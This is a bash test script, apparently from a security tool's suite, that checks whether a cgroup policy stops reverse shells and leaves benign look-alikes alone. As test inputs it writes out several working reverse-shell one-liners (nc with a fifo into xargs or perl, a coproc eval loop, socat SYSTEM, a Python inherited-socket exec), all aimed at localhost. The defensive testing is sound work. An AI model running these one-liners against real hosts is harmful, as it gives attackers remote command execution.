# SPDX-License-Identifier: GPL-2.0-only
# One program receives, another executes what it is handed, and what that says goes back.
# shellcheck shell=bash disable=SC2016,SC2034,SC2154

python=/usr/bin/python3
cg=$(cgroup free)

# The other end: sends a line, and says what came back.
cat >attacker.py <<'END'
import socket, sys
server = socket.create_server(("127.0.0.1", 4335))
print("ready", flush=True)
server.settimeout(int(sys.argv[1]))
data = b""
try:
    c = server.accept()[0]
    c.settimeout(int(sys.argv[1]))
    c.sendall(sys.argv[2].encode() + b"\n")
    if sys.argv[3]:
        c.shutdown(socket.SHUT_WR)
    while b"42\n" not in data and (new := c.recv(4096)):
        data += new
except OSError:
    pass
print(data.decode(errors="replace"), flush=True)
END

# hand LINE COMMAND...: in the cgroup; what came back and what was said
patience=40
hand() {
	local attacker pid
	: >attacker.out
	$python attacker.py $patience "$1" "${to_end:-}" >attacker.out 2>&1 &
	attacker=$!
	poll grep -q ready attacker.out
	timeout 120 /opt/csec/bin/cgexec "$cg" "${@:2}" </dev/null >hand.out 2>&1 &
	pid=$!
	wait $attacker
	[ -n "${to_end:-}" ] || kill $pid 2>/dev/null
	wait $pid 2>/dev/null
	echo 1 >"$cg/cgroup.kill" 2>/dev/null
	cat attacker.out hand.out
}
bash_c() { hand "$1" /bin/bash -c "$2"; }

plain='expr 40000 + 242'
among='x=$(expr 40000 + 242); echo $x'
by_xargs='rm -f f; mkfifo f; nc 127.0.0.1 4335 <f | xargs -L1 env >f 2>&1'
by_perl='rm -f f; mkfifo f; nc 127.0.0.1 4335 <f | perl -ne "system \$_" >f'
by_coproc='coproc nc 127.0.0.1 4335
	while read -r l <&${COPROC[0]}; do eval "$l" >&${COPROC[1]} 2>&1; done'
by_socat='socat TCP:127.0.0.1:4335 SYSTEM:'\''while read -r l; do eval "$l"; done'\'
cat >inherited.py <<'END'
import os, socket
s = socket.create_connection(("127.0.0.1", 4335))
os.set_inheritable(s.fileno(), True)
os.execvp("bash", ["bash", "-c", 'cat <&%d | while read -r l; do eval "$l" >&%d 2>&1; done' % ((s.fileno(),) * 2)])
END
by_inherited="$python $dir/inherited.py"

each() {
	"$@" 'xargs' "$plain" "$by_xargs"
	"$@" 'perl' "$plain" "$by_perl"
	for name in by_coproc by_socat by_inherited; do
		"$@" "$name, one command" "$plain" "${!name}"
		"$@" "$name, one of several" "$among" "${!name}"
	done
}
works() { contains "without a policy: $1" 40242 bash_c "$2" "$3"; }
each works

policy=handed
cg=$(cgroup deny)
govern handed "$cg" <<'END' || fail 'a policy is pushed'
shells: {reverse: deny, bind: deny, connect: deny}
END
patience=15
before=$(counter handed reverse_shell)
is_stopped() {
	lacks "$1: is stopped" 40242 bash_c "$2" "$3"
	at_least "$1: is counted" $((before + 1)) "$(counter handed reverse_shell)"
	before=$(counter handed reverse_shell)
}
each is_stopped

# What looks alike: what came is no command, or what it says goes nowhere.
patience=40
contains 'a client talks over a coproc' 40242 bash_c '220 mail ESMTP' \
	'coproc nc 127.0.0.1 4335; read -r l <&${COPROC[0]}; expr 40000 + 242 >&${COPROC[1]}; sleep 1'
contains 'and greets' 'QUIT-42' bash_c '220 mail ESMTP' \
	'coproc nc 127.0.0.1 4335; read -r l <&${COPROC[0]}; echo QUIT-42 >&${COPROC[1]}; sleep 1'
to_end=1
contains 'a list is worked off' 40242 bash_c 242 \
	'nc 127.0.0.1 4335 </dev/null | xargs -n1 expr 40000 + | cat'
contains 'what came is a script, for a file' 40242 bash_c "$plain" \
	'nc 127.0.0.1 4335 </dev/null | sh >x; cat x'
contains 'for a pipe' 40242 bash_c "$among" 'nc 127.0.0.1 4335 </dev/null | sh | cat'
contains 'by xargs, for a file' 40242 bash_c "$plain" \
	'nc 127.0.0.1 4335 </dev/null | xargs -L1 env >x; cat x'
to_end=
contains 'and reported to whom it came from' 40242 bash_c 242 \
	'rm -f f; mkfifo f; nc 127.0.0.1 4335 <f | xargs -n1 expr 40000 + >f'
equals 'and nothing of that is refused' "$before" "$(counter handed reverse_shell)"
accounts
